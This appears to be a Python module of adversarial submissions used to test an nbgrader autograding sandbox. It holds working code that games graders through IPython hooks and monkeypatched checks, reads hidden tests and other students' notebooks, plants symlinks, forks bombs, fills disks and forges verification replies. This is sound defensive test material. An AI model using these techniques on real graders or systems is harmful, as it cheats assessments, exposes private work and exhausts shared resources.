"""Attempts to game or break the grading: each one a submission that a determined student could hand in.

Every attack replaces one solution cell of the instructor's complete solution (some also edit or
delete a test cell, add cells, or hand in both notebooks), so a submission built from it differs
from a perfect one in one place. Each games one function (`games`): that function is wrong, or
not the student's own work, and the attack tries to get its points anyway, or failing that to
reach beyond its submission. They come in kinds (`kind`):

    in-kernel      tricks inside the kernel that fool nbgrader's in-kernel grading
    secret         reading the hidden tests, the reference, source/, the gradebook, others' work
    link           links planted where the grader might follow them (files, folders, devices,
                   FIFOs, sockets; absolute and relative; before and after nbgrader writes)
    special file   FIFOs and other files that are not regular files, where the grader reads
    flood          output of every type, far beyond what a notebook may keep
    time           many slow cells, very many cells, a cell that ignores interrupts
    memory         memory held by several processes or threads at once, a full disk
    processes      a fork bomb, a daemon that tries to outlive its sandbox
    forged reply   answers written into the verification channel, its broker attacked
    system call    calls the sandbox's seccomp filter denies
    submitted file links, FIFOs, devices, pages posing as feedback and text that is not valid
                   Unicode, handed in as part of the submission itself

Placeholders in the code are filled in per course (`submission(attack, places)`): @CANARY@ (a
folder of canary files outside the course), @REL_CANARY@ (the same, relative to the kernel's
folder), @COURSE@, @REL_COURSE@, @PACKAGE@ (the grading package) and @HONEST@ (another
student's id). tests/test_attacks.py runs them all through the real `make autograde`.

The code here is hostile by design: it is data for the sandbox, never to be run outside it.
"""
from dataclasses import dataclass, field

import nbformat

from grading.assignment import NOTEBOOKS
from grading.checks.provided import gc_feedback
from synthetic_class import synthetic


@dataclass(frozen=True)
class Attack:
    name: str                 # short id, also the synthetic student's name
    games: str                # the function whose points it tries to get
    how: str                  # what it does, in one sentence
    cells: dict               # {grade_id: new source of that solution cell}
    test_cells: dict = field(default_factory=dict)  # {grade_id: new source, or None to delete the cell}
    beats_nbgrader: bool = True  # stock nbgrader in the kernel gives it the points
    needs_sandbox: bool = False  # verification stops it only when the worker runs in the sandbox
    kind: str = "in-kernel"      # what it attacks (see above)
    both_notebooks: bool = False  # hand in both notebooks (the other one complete and right)
    added_cells: tuple = ()      # code cells appended to the gamed function's notebook
    submitted: str = ""          # what the test plants among the submitted files itself


# A forward_propagation that is right on the visible tests' inputs only.
_VISIBLE_ONLY = f'''
def forward_propagation(x, theta):
    return {dict(((x, theta), theta * x) for x, theta in gc_feedback.SCALAR_INPUTS)!r}.get((x, theta), 0.0)
'''

_CONSTANT = '''
def forward_propagation(x, theta):
    return 0.0
'''

# A gradient check with a one-sided difference: right on the visible (linear) examples, wrong
# on the hidden ones.
_ONE_SIDED = '''
def gradient_check(x, theta, epsilon=1e-7, print_msg=False):
    J_plus = forward_propagation(x, theta + epsilon)
    J = forward_propagation(x, theta)
    gradapprox = (J_plus - J) / epsilon
    grad = backward_propagation(x, theta)
    difference = float(np.linalg.norm(grad - gradapprox) / (np.linalg.norm(grad) + np.linalg.norm(gradapprox)))
    if print_msg:
        print("correct" if difference < 2e-7 else "wrong", difference)
    return {wrap}(difference)
'''

# The student's gradient_check_n and gradapprox_n answered by the grader's own reference, pointed
# at whatever cost the grader substituted; the attack cell defines _grader() to find it.
_CALLS_REFERENCE = '''

def _reference(name, *args):
    reference = _grader()
    saved = reference.forward_propagation_n
    reference.forward_propagation_n = forward_propagation_n
    try:
        return getattr(reference, name)(*args)
    finally:
        reference.forward_propagation_n = saved


def gradapprox_n(parameters, X, Y, epsilon=1e-7):
    return _reference("gradapprox_n", parameters, X, Y, epsilon)


def gradient_check_n(parameters, gradients, X, Y, epsilon=1e-7, print_msg=False):
    return _reference("gradient_check_n", parameters, gradients, X, Y, epsilon, print_msg)
'''

ATTACKS = [
    Attack(
        name="input_transformer", games="forward_propagation",
        how="an IPython input transformer turns every later cell, hidden tests included, into `pass`",
        cells={"forward_propagation": _CONSTANT + '''
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
'''}),
    Attack(
        name="ast_transformer", games="forward_propagation",
        how="an IPython AST transformer empties every later cell before it runs",
        cells={"forward_propagation": _CONSTANT + '''
import ast

class _Nothing(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node

get_ipython().ast_transformers.append(_Nothing())
'''}),
    Attack(
        name="event_hook", games="forward_propagation",
        how="a pre_run_cell event hook replaces grading.check with a no-op before every cell",
        cells={"forward_propagation": _VISIBLE_ONLY + '''
def _disarm(info):
    import grading
    grading.check = lambda name, namespace: print(f"{name} passes the hidden tests.")

get_ipython().events.register("pre_run_cell", _disarm)
'''}),
    Attack(
        name="fake_grading_module", games="forward_propagation",
        how="a fake `grading` module in sys.modules, whose check() does nothing",
        cells={"forward_propagation": _VISIBLE_ONLY + '''
import sys
import types

_fake = types.ModuleType("grading")
_fake.check = lambda name, namespace: print(f"{name} passes the hidden tests.")
sys.modules["grading"] = _fake
'''}),
    Attack(
        name="shadow_grading_file", games="forward_propagation",
        how="writes grading.py into the working directory, which `import grading` finds first",
        cells={"forward_propagation": _VISIBLE_ONLY + '''
import importlib

with open("grading.py", "w") as _file:
    _file.write("def check(name, namespace):\\n    print(name, 'passes the hidden tests.')\\n")
importlib.invalidate_caches()
'''}),
    Attack(
        name="patched_checks_table", games="gradient_check",
        how="replaces the hidden test in grading.CHECKS with a no-op (and submits a one-sided difference)",
        cells={"gradient_check": _ONE_SIDED.format(wrap="float") + '''
import grading
grading.CHECKS["gradient_check"] = lambda student: None
'''}),
    Attack(
        name="numpy_and_builtins", games="forward_propagation",
        how="np.isclose always True and builtins.abs always 0, so every comparison passes; returns noise",
        cells={"forward_propagation": '''
import builtins
import numpy

numpy.isclose = lambda *args, **kwargs: True
builtins.abs = lambda value: 0.0

def forward_propagation(x, theta):
    return float(numpy.random.rand())
'''}),
    Attack(
        name="always_equal_float", games="gradient_check",
        how="returns a float subclass whose comparisons and arithmetic always succeed, and makes "
            "builtins.float hand it back unchanged",
        cells={"gradient_check": '''
import builtins

_real_float = float

class _Float(_real_float):
    def __new__(cls, value=0.0):
        return value if isinstance(value, _Always) else _real_float(value)

class _Always(_Float):
    def __new__(cls, value):
        return _real_float.__new__(cls, value)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __abs__(self): return self
    __hash__ = _real_float.__hash__

builtins.float = _Float
''' + _ONE_SIDED.format(wrap="_Always")}),
    Attack(
        name="isinstance_patch", games="gradient_check",
        how="returns an object that is no number at all; builtins.isinstance and float are patched to accept it",
        cells={"gradient_check": '''
import builtins

_real_isinstance, _real_float = isinstance, float

class _Yes:
    def __init__(self, value): self.value = value
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __eq__ = __lt__
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __truediv__ = __sub__
    def __abs__(self): return self
    def __format__(self, spec): return format(self.value, spec)
    __hash__ = object.__hash__

class _Float(_real_float):
    def __new__(cls, value=0.0):
        return value if type(value) is _Yes else _real_float(value)

def _isinstance(obj, kind):
    kinds = kind if _real_isinstance(kind, tuple) else (kind,)
    kinds = tuple(_real_float if k is _Float else k for k in kinds)
    if type(obj) is _Yes:
        return _real_float in kinds
    return _real_isinstance(obj, kinds)

builtins.isinstance, builtins.float = _isinstance, _Float
''' + _ONE_SIDED.format(wrap="_Yes")}),
    Attack(
        name="showtraceback_silenced", games="forward_propagation",
        how="InteractiveShell.showtraceback shows nothing and ExecutionResult.success is always True, "
            "so a failing test cell has no error output and reports success",
        cells={"forward_propagation": _CONSTANT + '''
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
ExecutionResult.success = property(lambda self: True)
'''}),
    Attack(
        name="assertion_errors_swallowed", games="forward_propagation",
        how="a custom IPython exception handler takes over AssertionError (the hidden tests' CheckFailed "
            "too) and a post_run_cell hook erases the error from the cell's result",
        cells={"forward_propagation": _CONSTANT + '''
def _forget(result):
    result.error_in_exec = None

get_ipython().set_custom_exc((AssertionError,), lambda shell, etype, evalue, tb, tb_offset=None: None)
get_ipython().events.register("post_run_cell", _forget)
'''}),
    Attack(
        name="excepthook_and_stderr", games="forward_propagation",
        how="sys.excepthook, the kernel's _showtraceback and sys.stderr are silenced, and a "
            "post_run_cell hook erases the error from the cell's result",
        cells={"forward_propagation": _CONSTANT + '''
import io
import sys

def _forget(result):
    result.error_in_exec = None

sys.excepthook = lambda *args: None
sys.stderr = io.StringIO()
get_ipython()._showtraceback = lambda *args, **kwargs: None
get_ipython().events.register("post_run_cell", _forget)
'''}),
    Attack(
        name="settrace_hook", games="forward_propagation",
        how="a sys.settrace hook empties grading.CHECKS when grading.check starts",
        cells={"forward_propagation": _VISIBLE_ONLY + '''
import sys

def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "check" and frame.f_globals.get("__name__") == "grading":
        frame.f_globals["CHECKS"] = {name: (lambda student: None) for name in frame.f_globals["CHECKS"]}
    return None

sys.settrace(_tracer)
'''}),
    Attack(
        name="stack_peek", games="forward_propagation",
        how="reads the grader's own `correct` function from the calling frames and returns its answer",
        cells={"forward_propagation": '''
import sys

def forward_propagation(x, theta):
    frame = sys._getframe(1)
    while frame is not None:
        correct = frame.f_locals.get("correct")
        if callable(correct):
            return correct(x, theta)
        frame = frame.f_back
    return {(2, 4): 8, (-3.0, 0.5): -1.5}.get((x, theta), 0.0)
'''}),
    Attack(
        name="calls_reference", games="gradient_check_n",
        how="calls grading.checks.reference.gradient_check_n, pointed for the call at whatever cost the grader substituted",
        cells={"gradient_check_n": '''
def _grader():
    import grading.checks.reference
    return grading.checks.reference
''' + _CALLS_REFERENCE}),
    Attack(
        name="getsource_reference", games="gradient_check_by_parameter",
        how="copies the solution out of grading.checks.reference with inspect.getsource",
        cells={"gradient_check_by_parameter": '''
import inspect
import grading.checks.reference

exec(inspect.getsource(grading.checks.reference.gradient_check_by_parameter))
'''}),
    Attack(
        name="reference_by_path", games="gradient_check_n", needs_sandbox=True,
        how="looks for the grading package on disk, next to the helper module, and calls its reference",
        cells={"gradient_check_n": '''
def _grader():
    import importlib
    import os
    import sys
    try:
        return importlib.import_module("grading.checks.reference")
    except ImportError:
        pass
    import gc_utils
    folder = os.path.dirname(os.path.abspath(gc_utils.__file__))
    while folder != os.path.dirname(folder):
        if os.path.exists(os.path.join(folder, "grading", "__init__.py")):
            sys.path.insert(0, folder)
            return importlib.import_module("grading.checks.reference")
        folder = os.path.dirname(folder)
    raise ImportError("the grading package is nowhere to be found")
''' + _CALLS_REFERENCE}),
    Attack(
        name="patched_shared_checks", games="gradient_check",
        how="a one-sided gradient_check that replaces every check of each gc_feedback module it finds "
            "(the released copy and, under stock nbgrader, the grader's own) with one that passes",
        cells={"gradient_check": _ONE_SIDED.format(wrap="float") + '''
import sys as _sys

for _module in list(_sys.modules.values()):
    for _found in (_module, getattr(_module, "gc_feedback", None)):   # the grader's copy: grading.checks.provided.gc_feedback
        if getattr(_found, "__name__", "").endswith("gc_feedback"):
            for _name in dir(_found):
                if _name.startswith("check_"):
                    setattr(_found, _name, lambda *args, **kwargs: None)
'''}),
    Attack(
        name="edited_test_cell", games="forward_propagation", beats_nbgrader=False,
        how="the test cell's source is replaced by `pass` (nbgrader restores locked cells)",
        cells={"forward_propagation": _CONSTANT},
        test_cells={"test_forward_propagation": "pass"}),
    Attack(
        name="deleted_test_cell", games="forward_propagation", beats_nbgrader=False,
        how="the test cell is deleted (nbgrader adds missing test cells back)",
        cells={"forward_propagation": _CONSTANT},
        test_cells={"test_forward_propagation": None}),
]


# ------------------------------------------------------------------------------------------------
# Around the kernel: what a determined student tries once in-kernel tricks are known to fail.

# Plants a link, replacing whatever is there; says so when the sandbox refuses.
_PLANT = '''
import os as _os

def _plant(name, target):
    try:
        if _os.path.lexists(name):
            _os.remove(name)
        _os.symlink(target, name)
    except OSError as error:
        print("could not plant", name, error)
'''


def _links(*pairs):
    """forward_propagation wrong, and links planted in the kernel's folder: (name, target) pairs."""
    return _CONSTANT + _PLANT + "".join(f"_plant({name!r}, {target!r})\n" for name, target in pairs)


def _around(name, how, code, kind, **options):
    return Attack(name=name, games="forward_propagation", how=how, cells={"forward_propagation": code},
                  kind=kind, **options)


_MANY_SLOW_CELLS = tuple("import time\ntime.sleep(7)" for _ in range(12))
_VERY_MANY_CELLS = ("pass",) * 30000

AROUND_THE_KERNEL = [
    # --- links in the kernel's folder, which nbgrader later writes, copies and chmods ---
    _around("link_next_notebook_to_canary", "replaces the not yet graded second notebook with a link to a file outside the course",
            _links(("2_gradient_checking_nd.ipynb", "@CANARY@/target.txt")), "link", both_notebooks=True),
    _around("link_to_other_students_notebook", "a relative link, named like its second notebook, to another student's submitted notebook",
            _links(("2_gradient_checking_nd.ipynb", "@REL_COURSE@/submitted/@HONEST@/gradient_checking/2_gradient_checking_nd.ipynb")),
            "link", both_notebooks=True),
    _around("link_secret_into_feedback", "a link to a root-only file outside the course, for the feedback to copy",
            _links(("secret_copy.txt", "@CANARY@/secret.txt")), "link"),
    _around("link_relative_secret", "a relative link to a root-only file outside the course",
            _links(("relative_copy.txt", "@REL_CANARY@/secret.txt")), "link"),
    _around("link_gradebook", "a link to the course's gradebook, for nbgrader to copy or write",
            _links(("gradebook_copy.db", "@COURSE@/gradebook.db")), "link"),
    _around("link_source_folder", "a link to the instructor's source/ folder",
            _links(("source_copy", "@COURSE@/source")), "link"),
    _around("link_grading_package", "a link to the grading package (hidden tests, reference)",
            _links(("package_copy", "@PACKAGE@")), "link"),
    _around("link_device", "a link to a device that reads zeros without end",
            _links(("zeros.bin", "@CANARY@/zero")), "link"),
    _around("link_fifo", "a link to a FIFO that blocks whoever reads it",
            _links(("notes.txt", "@CANARY@/fifo")), "link"),
    _around("link_mode_target", "replaces gc_utils.py with a link to a file outside, whose mode nbgrader's chmod would change",
            _links(("gc_utils.py", "@CANARY@/mode.txt")), "link"),
    _around("link_tool_binary", "a link to a program outside, which a chmod to 444 would make unrunnable",
            _links(("make_payments.py", "@CANARY@/tool")), "link"),
    _around("link_checkpoints_folder", "replaces .ipynb_checkpoints with a link to a folder outside",
            _links((".ipynb_checkpoints", "@CANARY@/folder")), "link"),
    _around("link_planted_late", "a thread keeps planting links over the graded notebook after nbgrader wrote it",
            _CONSTANT + _PLANT + '''
import threading as _threading
import time as _time

def _keep_planting():
    for _ in range(600):
        for name in ("1_gradient_checking_1d.ipynb", "feedback.html", "gc_utils.py"):
            _plant(name, "@CANARY@/target.txt")
        _time.sleep(0.05)

_threading.Thread(target=_keep_planting, daemon=True).start()
''', "link"),
    _around("link_folder_for_next_kernel", "replaces its own working folder with a link, for the next notebook's kernel",
            _CONSTANT + '''
import os as _os
_here = _os.getcwd()
try:
    _os.chdir("..")
    _os.rename(_here, _here + ".old")
    _os.symlink("@CANARY@/folder", _here)
except OSError as error:
    print("could not replace the folder:", error)
''', "link", both_notebooks=True),
    _around("link_over_kernel_sockets", "replaces its own kernel sockets with links to a socket outside",
            _CONSTANT + '''
import glob as _glob, json as _json, os as _os
try:
    _info = _json.load(open(get_ipython().kernel.config["IPKernelApp"]["connection_file"]))
    _sockets = _glob.glob(_info["ip"] + "-*")
except Exception as error:
    _sockets = _glob.glob("/run/sockets/*/ipc-*")
for _socket in _sockets:
    try:
        _os.remove(_socket)
        _os.symlink("@CANARY@/socket.stream", _socket)
    except OSError as error:
        print("could not replace", _socket, error)
print("replaced", len(_sockets))
''', "link"),
    _around("link_over_zygote_socket", "replaces the kernel zygote's socket and the next kernel's socket folder with links outside",
            _CONSTANT + '''
import os as _os
for _name, _target in (("/run/sockets/zygote.sock", "@CANARY@/socket.seqpacket"), ("/run/sockets/k2", "@CANARY@/folder")):
    try:
        if _os.path.lexists(_name):
            _os.remove(_name)
        _os.symlink(_target, _name)
    except OSError as error:
        print("could not plant", _name, error)
''', "link", both_notebooks=True),
    # --- files that are not regular files ---
    _around("fifo_in_folder", "FIFOs in the kernel's folder, one in place of payments.csv, for nbgrader to copy",
            _CONSTANT + '''
import os as _os
for _name in ("payments.csv", "extra.fifo"):
    try:
        if _os.path.lexists(_name):
            _os.remove(_name)
        _os.mkfifo(_name)
    except OSError as error:
        print("could not make", _name, error)
''', "special file"),
    # --- output floods of every type ---
    _around("flood_stdout", "prints 12 MiB", _CONSTANT + '''
for _ in range(12):
    print("x" * 2 ** 20)
''', "flood"),
    _around("flood_stderr", "writes 12 MiB to stderr", _CONSTANT + '''
import sys as _sys
for _ in range(12):
    _sys.stderr.write("x" * 2 ** 20 + "\\n")
''', "flood"),
    _around("flood_images", "displays 12 images of 1 MiB", _CONSTANT + '''
import base64 as _base64, os as _os
from IPython.display import display as _display
_image = _base64.b64encode(_os.urandom(3 * 2 ** 18)).decode()
for _ in range(12):
    _display({"image/png": _image}, raw=True)
''', "flood"),
    _around("flood_html", "displays 12 HTML outputs of 1 MiB", _CONSTANT + '''
from IPython.display import HTML as _HTML, display as _display
for _ in range(12):
    _display(_HTML("<p>" + "x" * 2 ** 20 + "</p>"))
''', "flood"),
    _around("flood_one_result", "a cell whose result is one 20 MiB string", _CONSTANT + '''
"x" * (20 * 2 ** 20)
''', "flood"),
    _around("flood_display_updates", "updates one display 12 times with 1 MiB each", _CONSTANT + '''
from IPython.display import HTML as _HTML, display as _display
_handle = _display(_HTML("start"), display_id=True)
for _ in range(12):
    _handle.update(_HTML("x" * 2 ** 20))
''', "flood"),
    _around("flood_error", "raises an error whose message is 20 MiB", _CONSTANT + '''
raise ValueError("x" * (20 * 2 ** 20))
''', "flood"),
    _around("flood_own_stdout", "writes 24 MiB to the kernel process's own stdout and stderr", _CONSTANT + '''
import os as _os
for _ in range(12):
    _os.write(1, b"x" * 2 ** 20)
    _os.write(2, b"y" * 2 ** 20)
''', "flood"),
    _around("flood_comm_messages", "opens 12 comms carrying 1 MiB each", _CONSTANT + '''
from comm import create_comm as _create_comm
for _ in range(12):
    _create_comm(target_name="flood", data={"payload": "x" * 2 ** 20})
''', "flood"),
    _around("flood_many_outputs", "50,000 small display outputs", _CONSTANT + '''
from IPython.display import display as _display
for _i in range(50000):
    _display({"text/plain": "output %d %s" % (_i, "x" * 200)}, raw=True)
''', "flood"),
    _around("flood_with_clear_output", "clears and redraws a 1 MiB output 12 times", _CONSTANT + '''
from IPython.display import clear_output as _clear, display as _display, HTML as _HTML
for _ in range(12):
    _clear(wait=True)
    _display(_HTML("x" * 2 ** 20))
''', "flood"),
    # --- time ---
    _around("many_slow_cells", "twelve added cells that each sleep 7 s, just under the cell timeout of the tests",
            _CONSTANT, "time", added_cells=_MANY_SLOW_CELLS),
    _around("very_many_cells", "30,000 added cells (staging refuses more than 1,000)", _CONSTANT, "time",
            added_cells=_VERY_MANY_CELLS),
    _around("ignores_interrupts", "a cell that catches every interrupt and never ends", _CONSTANT + '''
import time as _time
while True:
    try:
        _time.sleep(100)
    except KeyboardInterrupt:
        pass
''', "time"),
    # --- memory and processes ---
    _around("forked_memory", "three forked processes and the kernel hold 800 MiB each at once", _CONSTANT + '''
import os as _os, time as _time
_children = []
for _ in range(3):
    _pid = _os.fork()
    if _pid == 0:
        _block = bytearray(b"x" * (800 * 2 ** 20))
        _time.sleep(30)
        _os._exit(0)
    _children.append(_pid)
try:
    _block = bytearray(b"x" * (800 * 2 ** 20))
except MemoryError:
    pass
for _pid in _children:
    _os.waitpid(_pid, 0)
''', "memory"),
    _around("thread_memory", "four threads allocate 600 MiB each", _CONSTANT + '''
import threading as _threading
_blocks = []
def _hold():
    try:
        _blocks.append(bytearray(b"x" * (600 * 2 ** 20)))
    except MemoryError:
        pass
_threads = [_threading.Thread(target=_hold) for _ in range(4)]
for _thread in _threads:
    _thread.start()
for _thread in _threads:
    _thread.join()
''', "memory"),
    _around("fill_the_disk", "writes until its folder and /tmp are full", _CONSTANT + '''
for _where in ("big.bin", "/tmp/big.bin"):
    try:
        with open(_where, "wb") as _out:
            for _ in range(400):
                _out.write(bytes(2 ** 20))
    except OSError as error:
        print(_where, error)
''', "memory"),
    _around("fill_socket_folder", "writes GiBs and a hundred thousand files into the one host folder it may write (its sockets')",
            _CONSTANT + '''
import os as _os
_mib = 0
try:
    for _i in range(48):   # 48 files of 64 MiB (the largest file a process may write): 3 GiB
        with open("/run/sockets/fill%d.bin" % _i, "wb") as _out:
            for _ in range(64):
                _out.write(bytes(2 ** 20))
                _mib += 1
except OSError as error:
    print("could not write more:", error)
_files = 0
try:
    for _i in range(100000):
        _os.close(_os.open("/run/sockets/f%d" % _i, _os.O_CREAT | _os.O_WRONLY))
        _files += 1
except OSError as error:
    print("could not make more files:", error)
print("SOCKET FOLDER %d MiB %d files" % (_mib, _files))
''', "memory"),
    _around("deep_tree_in_socket_folder", "builds a folder tree 1,200 deep in its sockets' folder, a link to a folder outside at every level",
            _CONSTANT + '''
import os as _os
_fd, _depth = _os.open("/run/sockets", _os.O_RDONLY | _os.O_DIRECTORY), 0
try:
    for _ in range(1200):
        _os.symlink("@CANARY@/folder", "outside", dir_fd=_fd)
        _os.mkdir("d", dir_fd=_fd)
        _inner = _os.open("d", _os.O_RDONLY | _os.O_DIRECTORY, dir_fd=_fd)
        _os.close(_fd)
        _fd, _depth = _inner, _depth + 1
except OSError as error:
    print("could not go deeper:", error)
print("DEPTH %d" % _depth)
''', "memory"),
    _around("fork_bomb", "forks until it cannot", _CONSTANT + '''
import os as _os, time as _time
_count = 0
try:
    for _ in range(5000):
        if _os.fork() == 0:
            _time.sleep(60)
            _os._exit(0)
        _count += 1
except OSError as error:
    print("forked", _count, error)
''', "processes"),
    _around("daemon_outlives_kernel", "a double-forked daemon in a session of its own that keeps planting links", _CONSTANT + _PLANT + '''
import time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        for _ in range(1200):
            _plant("/tmp/late", "@CANARY@/target.txt")
            _plant("1_gradient_checking_1d.ipynb", "@CANARY@/target.txt")
            _time.sleep(0.1)
    _os._exit(0)
''', "processes"),
    # --- the verification channel ---
    _around("forged_reply_on_every_fd", "writes forged answers claiming the right value to every descriptor", '''
import json as _json, os as _os

def _forge():
    line = _json.dumps({"id": 1, "result": 8.0, "printed": "", "args_after": [2, 4]}).encode() + b"\\n"
    for fd in range(64):
        try:
            _os.write(fd, line * 50)
        except OSError:
            pass

def forward_propagation(x, theta):
    _forge()
    return 0.0

_forge()
''', "forged reply"),
    _around("forged_reply_through_proc", "opens its parent's descriptors through /proc to write forged answers", '''
import json as _json, os as _os

def _forge():
    line = _json.dumps({"id": 1, "result": 8.0, "printed": "", "args_after": [2, 4]}).encode() + b"\\n"
    opened = 0
    for fd in range(64):
        try:
            with open("/proc/%d/fd/%d" % (_os.getppid(), fd), "wb") as channel:
                channel.write(line)
                opened += 1
        except OSError:
            pass
    return opened

def forward_propagation(x, theta):
    _forge()
    return 0.0

print("parent descriptors opened:", _forge())
''', "forged reply"),
    _around("kills_its_parent", "kills the process that started it (the broker, or the zygote)", '''
import os as _os, signal as _signal

def forward_propagation(x, theta):
    _os.kill(_os.getppid(), _signal.SIGKILL)
    return 0.0
''', "forged reply"),
    _around("ptrace_parent", "attaches to its parent with ptrace to rewrite its answers", _CONSTANT + '''
import ctypes as _ctypes, os as _os
_libc = _ctypes.CDLL(None, use_errno=True)
print("ptrace attach:", _libc.ptrace(16, _os.getppid(), 0, 0), _ctypes.get_errno())
''', "forged reply"),
    # --- secrets ---
    _around("prints_grading_package", "prints every file of what `import grading` finds, and of the package's real folder", _CONSTANT + '''
import os as _os
import grading as _grading
for _folder in {_os.path.dirname(_grading.__file__), "@PACKAGE@"}:
    for _top, _, _names in _os.walk(_folder):
        for _name in _names:
            try:
                print(_name, open(_os.path.join(_top, _name), errors="replace").read())
            except OSError as error:
                print(_name, error)
''', "secret"),
    _around("prints_course_files", "prints the source notebooks, the gradebook and another student's work", _CONSTANT + '''
for _path in ("@COURSE@/source/gradient_checking/1_gradient_checking_1d.ipynb", "@COURSE@/gradebook.db",
              "@COURSE@/submitted/@HONEST@/gradient_checking/1_gradient_checking_1d.ipynb", "@CANARY@/secret.txt"):
    try:
        print(open(_path, errors="replace").read())
    except OSError as error:
        print(_path, error)
''', "secret"),
    _around("searches_the_disk", "searches everything it can see for the hidden tests and the reference", _CONSTANT + '''
import os as _os
for _top, _dirs, _names in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if _os.path.join(_top, d) not in ("/proc", "/sys", "/dev", "/usr")]
    for _name in _names:
        if _name in ("reference.py", "checks_nd.py", "diagnoses.py", "gradebook.db"):
            try:
                print(_top, _name, open(_os.path.join(_top, _name), errors="replace").read())
            except OSError as error:
                print(_name, error)
''', "secret"),
    # --- system calls ---
    _around("denied_system_calls", "tries ptrace, namespaces, mount, bpf, keyrings, perf, userfaultfd and io_uring", _CONSTANT + '''
import ctypes as _ctypes, errno as _errno, json as _json
_libc = _ctypes.CDLL(None, use_errno=True)
_calls = {"ptrace": (101, 16, 1, 0, 0), "unshare": (272, 0x10000000), "setns": (308, 0, 0), "mount": (165, 0, 0, 0, 0, 0),
          "bpf": (321, 0, 0, 0), "keyctl": (250, 0, 0), "add_key": (248, 0, 0, 0, 0, 0), "perf_event_open": (298, 0, 0, 0, 0, 0),
          "userfaultfd": (323, 0), "io_uring_setup": (425, 1, 0), "clone_newuser": (56, 0x10000000 | 17, 0, 0, 0, 0),
          "chroot": (161, 0)}
_results = {}
for _name, (_number, *_args) in _calls.items():
    _value = _libc.syscall(_number, *_args)
    _results[_name] = "allowed" if _value >= 0 else _errno.errorcode.get(_ctypes.get_errno(), "?")
print("SYSCALLS", _json.dumps(_results))
''', "system call"),
    # --- submitted files (planted by the test in submitted/) ---
    _around("submits_a_link_to_a_notebook", "hands in its first notebook as a link to another student's",
            _CONSTANT, "submitted file", submitted="notebook link"),
    _around("submits_a_linked_folder", "hands in its assignment folder as a link to another student's",
            _CONSTANT, "submitted file", submitted="folder link"),
    _around("submits_a_fifo", "hands in a FIFO among its files", _CONSTANT, "submitted file", submitted="fifo"),
    _around("submits_a_device", "hands in a device node among its files", _CONSTANT, "submitted file", submitted="device"),
    _around("submits_feedback_pages", "hands in its own 1_gradient_checking_1d.html (a script, a fake full score) and notes.html",
            _CONSTANT, "submitted file", submitted="feedback pages"),
    Attack(name="submits_feedback_pages_without_notebook", games="gradient_check_n", kind="submitted file",
           how="hands in its own 1_gradient_checking_1d.html and notes.html, and no first notebook (nbgrader renders no page for it)",
           cells={"gradient_check_n": "def gradient_check_n(*args, **kwargs):\n    return 0.0\n"},
           submitted="feedback pages"),
    _around("lone_surrogate_in_comment", "an answer comment holds a lone surrogate (\\ud800, a valid JSON escape), which no file takes",
            _CONSTANT + "# LONE_SURROGATE\n", "submitted file", submitted="lone surrogate"),
]
ATTACKS = ATTACKS + AROUND_THE_KERNEL


def by_name(name):
    for attack in ATTACKS:
        if attack.name == name:
            return attack
    raise KeyError(name)


def submission(attack, only_its_notebook=True, places=None):
    """{notebook file name: NotebookNode}: the complete solution with the attack in place.

    only_its_notebook -- hand in only the notebook of the gamed function (the other one is then
                         missing and scores 0 everywhere): the batch grades faster; an attack
                         with both_notebooks hands in both anyway
    places -- {placeholder: text}, e.g. {"@CANARY@": "/tmp/canaries"}
    """
    def fill(code):
        for placeholder, text in (places or {}).items():
            code = code.replace(placeholder, text)
        return code

    notebooks = synthetic.submission({grade_id: fill(code) for grade_id, code in attack.cells.items()})
    home = synthetic.notebook_of()[attack.games]
    for name, notebook in notebooks.items():
        cells = []
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if grade_id in attack.test_cells:
                if attack.test_cells[grade_id] is None:
                    continue
                cell.source = attack.test_cells[grade_id]
            cells.append(cell)
        if name == home:
            cells.extend(nbformat.v4.new_code_cell(fill(code)) for code in attack.added_cells)
        notebook.cells = cells
    if only_its_notebook and not attack.both_notebooks:
        notebooks = {name: notebook for name, notebook in notebooks.items() if name == home}
    assert set(notebooks) <= set(NOTEBOOKS)
    return notebooks
